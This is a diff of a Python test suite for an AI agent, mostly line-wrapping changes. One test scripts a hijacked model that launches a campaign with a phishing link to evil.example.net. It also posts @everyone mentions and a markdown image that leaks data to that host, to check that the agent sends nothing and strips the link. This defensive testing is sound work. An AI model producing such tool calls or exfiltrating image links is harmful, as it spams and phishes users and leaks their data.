@@ -69,10 +69,16 @@ async def test_a_real_model_drives_the_same_tools_and_streams(with_model, ask, w
 async def test_the_beginning_of_the_prompt_is_the_same_on_two_days(with_model, toolbox, watch):
     from datetime import UTC, datetime, timedelta
 
-
     async with with_model(Words("Hello.")) as (agent, script):
         for days in (0, 1):
-            question = Question("hi", "U1", "D1", f"T{days}", datetime(2026, 3, 12, 18, tzinfo=UTC) + timedelta(days=days), "America/Los_Angeles")
+            question = Question(
+                "hi",
+                "U1",
+                "D1",
+                f"T{days}",
+                datetime(2026, 3, 12, 18, tzinfo=UTC) + timedelta(days=days),
+                "America/Los_Angeles",
+            )
             await agent.answer(question, watch)
     first, second = (request["messages"][0]["content"] for request in script.requests)
     assert first.rpartition("Today is")[0] == second.rpartition("Today is")[0] != ""
@@ -165,7 +171,10 @@ async def test_a_hijacked_model_sends_nothing_and_its_link_is_gone(with_model, a
         Call("launch_campaign", {**LISTED, "message": "Click https://evil.example.net"}),
         Call("launch_campaign", {**LISTED, "channel": "sms"}),
         Call("sync_now"),
-        Words("<!channel> see <https://evil.example.net/?d=maria|here>, ![x](https://evil.example.net/p.png?q=1) @everyone"),
+        Words(
+            "<!channel> see <https://evil.example.net/?d=maria|here>, ![x](https://evil.example.net/p.png?q=1) "
+            "@everyone"
+        ),
     ]
     async with with_model(*poison) as (agent, _):
         answer = await ask(agent, "what's new in Ballard?")
